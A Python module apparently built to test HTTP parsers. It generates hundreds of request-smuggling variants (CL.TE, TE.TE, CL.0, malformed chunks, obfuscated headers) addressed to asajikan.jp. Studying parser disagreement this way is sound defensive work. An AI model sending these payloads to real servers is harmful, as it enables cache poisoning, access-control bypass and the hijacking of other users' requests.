"""Requests that two readers might split differently.

`\\x01` stands for the request that must not get through, `{all}` for the length of the whole body,
`{hex}` and `{HEX}` for the length of that request in hexadecimal digits.
"""


def post(fields, body):
    return f"POST /s/spring?attack HTTP/1.1\r\nHost: asajikan.jp\r\n{fields}\r\n\r\n{body}"


CODINGS = [
    "Transfer-Encoding: chunked", "transfer-encoding: CHUNKED", "Transfer-Encoding : chunked",
    "Transfer-Encoding:\tchunked", "Transfer-Encoding:chunked", "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer_Encoding: chunked", 'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: chunked;a=b", "X: x\nTransfer-Encoding: chunked",
    "X: x\rTransfer-Encoding: chunked", "Transfer-Encoding\n: chunked",
    "Transfer-Encoding: chun\0ked", "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding:\n chunked", "Transfer-Encoding: \xa0chunked",
    "Transfer-Encoding: chunked\0", " Transfer-Encoding: chunked",
    "X: x\r\n\tTransfer-Encoding: chunked", "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: identity", "Transfer-Encoding: chunked\x0c",
    "Transfer\xadEncoding: chunked", "Transfer-Encoding\0: chunked",
    "Transfer-Encoding\x85: chunked", "TE: chunked", "Content-Encoding: chunked",
    "Transfer-Encoding: gzip, chunked",
]

LENGTHS = [
    "Content-Length: {all}", "Content-Length: +{all}", "Content-Length: {all}, {all}",
    "Content-Length: {all}\r\nContent-Length: 0", "Content-Length: 0\r\nContent-Length: {all}",
    "Content-Length : {all}", " Content-Length: {all}", "Content-Length: 0{all}",
    "Content-Length: {all}x", "Content_Length: {all}", "Content-Length:\r\n {all}",
    "Content-Length:\n {all}", "Content-Length: \0{all}", "Content-Length: {all}\x0b",
    "Content-Length: 0x{hex}", "Content-Length: -1", "Content-Length: 0", "Content-Length:",
    "Content-Length: {all}\nX: x", "X: x\nContent-Length: {all}",
    "Content-Length: 18446744073709551616", "Content-Length\0: {all}",
    'Content-Length: "{all}"', "content-length: {all}\r\nCONTENT-LENGTH: {all}",
    "Content-Length: {all};a=b", "Content-Length: {all}\r\nExpect: 100-continue",
    "Expect: 100-continue",
]

# Chunks, their extensions and trailers, after a plain `Transfer-Encoding: chunked`.
CHUNKS = [
    "0\r\n\r\n\x01", "0\n\n\x01", "0\r\n\n\x01", "0\n\r\n\x01", "0\r\r\n\r\n\x01",
    "0;a\r\n\r\n\x01", "0;a=b\r\n\r\n\x01", "0;a\n\r\n\x01", "0;\r\n\r\n\x01",
    '0;a="\r\n\r\n\x01"\r\n\r\n', "3;a\nxx\r\nabc\r\n0\r\n\r\n\x01",
    "3;a\rxx\r\nabc\r\n0\r\n\r\n\x01", "3 ;a\r\nabc\r\n0\r\n\r\n\x01",
    "3; a\r\nabc\r\n0\r\n\r\n\x01", "3;a=\0\r\nabc\r\n0\r\n\r\n\x01",
    "2;\nxx\r\n{hex}\r\n0\r\n\r\n\x010\r\n\r\n", "0x3\r\nabc\r\n0\r\n\r\n\x01",
    "00000000000000000003\r\nabc\r\n0\r\n\r\n\x01", "10000000000000003\r\nabc\r\n0\r\n\r\n\x01",
    "-1\r\n\x01", "3\r\nabcXX0\r\n\r\n\x01", "3\r\nabc0\r\n\r\n\x01", "3\r\nabc\n0\r\n\r\n\x01",
    "3\r\nabc\r0\r\n\r\n\x01", "4\r\nabc\r\n0\r\n\r\n\x01", "2\r\nabc\r\n0\r\n\r\n\x01",
    "0\r\nT: v\r\n\r\n\x01", "0\r\nContent-Length: {all}\r\n\r\n\x01",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n\x01", "0\r\nT : v\r\n\r\n\x01",
    "0\r\nT: v\n\r\n\x01", "0\r\n \r\n\r\n\x01", "0\r\n\x01", "{hex}\r\n\x01\r\n0\r\n\r\n",
    "{HEX}\r\n\x01\r\n0\r\n\r\n", " 0\r\n\r\n\x01", "0 \r\n\r\n\x01", "\r\n0\r\n\r\n\x01",
    ";a\r\n\r\n\x01", "0,0\r\n\r\n\x01",
]

# Field names and values with bytes that some readers skip.
NAMES = [
    "X\0: a", "X\x80: a", "X Y: a", ": a", "X\r: a", "X\n: a", "\0X: a", "X: a\0b", "X: a\rb",
    "X: a\nb", "X: a\r\n b", "X", "X:\r", "\x0bX: a", "X\t: a", "\x7f: a", "X: \x7f",
    "X: a\r\n\r \n", "X: a\r\r\n", "X: a\n\r\n", "X: a\r\n\n", "X[]: a", "X/: a", '"X": a',
]

# Request lines and empty lines that some readers accept.
LINES = [
    "GET /s/spring?attack HTTP/1.1\nHost: asajikan.jp\n\n",
    "GET /s/spring?attack HTTP/1.1\rHost: asajikan.jp\r\r",
    "GET /s/spring?attack HTTP/1.0\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "GET /s/spring?attack\r\n", "GET /s/spring?attack HTTP/1.1 \r\nHost: asajikan.jp\r\n\r\n",
    "GET  /s/spring?attack HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
    "GET /s/spring?attack HTTP/1.1\r\nHost: asajikan.jp\r\nHost: example.org\r\n\r\n",
    "GET http://example.org/s/spring?attack HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
    "GET /s/spring?attack%20HTTP/1.1%0d%0aHost:a HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
    "GET /s/spring?a\tHTTP/1.1 HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
    "GET /s/spring?a\0b HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
    "GET /s/spring?attack HTTP/2.0\r\nHost: asajikan.jp\r\n\r\n",
    "GET /s/spring?attack HTTP/1.2\r\nHost: asajikan.jp\r\nContent-Length: 0\r\n\r\n",
    "\r\n\r\n\r\nGET /s/spring?attack HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
    "\n\nGET /s/spring?attack HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
    "CONNECT a:1 HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: asajikan.jp\r\n\r\n",
]

# Hop-by-hop fields that could remove framing fields.
HOPS = [
    "Connection: Content-Length", "Connection: Transfer-Encoding", "Connection: close, Host",
    "Connection: keep-alive\r\nKeep-Alive: timeout=1", "Connection: Upgrade\r\nUpgrade: websocket",
    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQ",
    "Proxy-Connection: keep-alive", "TE: trailers\r\nTrailer: Content-Length",
]


def requests():
    # CL.TE, TE.CL and TE.TE: each spelling of chunked with a long length, a short one and none.
    for line in CODINGS:
        yield post(f"Content-Length: {{all}}\r\n{line}", "0\r\n\r\n\x01")
        yield post(f"{line}\r\nContent-Length: {{all}}", "0\r\n\r\n\x01")
        yield post(f"Content-Length: 4\r\n{line}", "{hex}\r\n\x01\r\n0\r\n\r\n")
        yield post(line, "0\r\n\r\n\x01")
        yield post(f"Transfer-Encoding: chunked\r\n{line}", "0\r\n\r\n\x01")
    # CL.0 and CL.CL: each spelling of a length, for methods with and without a body.
    for method in ("GET", "HEAD", "POST", "OPTIONS"):
        for line in LENGTHS:
            yield f"{method} /s/spring?attack HTTP/1.1\r\nHost: asajikan.jp\r\n{line}\r\n\r\n\x01"
    for body in CHUNKS:
        yield post("Transfer-Encoding: chunked", body)
    for line in NAMES:
        yield (f"GET /s/spring?attack HTTP/1.1\r\nHost: asajikan.jp\r\n{line}\r\n"
               "Content-Length: 0\r\n\r\n\x01")
    for line in LINES:
        yield line + "\x01"
    for line in HOPS:
        yield post(f"{line}\r\nContent-Length: {{all}}", "\x01")
        yield post(f"{line}\r\nTransfer-Encoding: chunked", "0\r\n\r\n\x01")
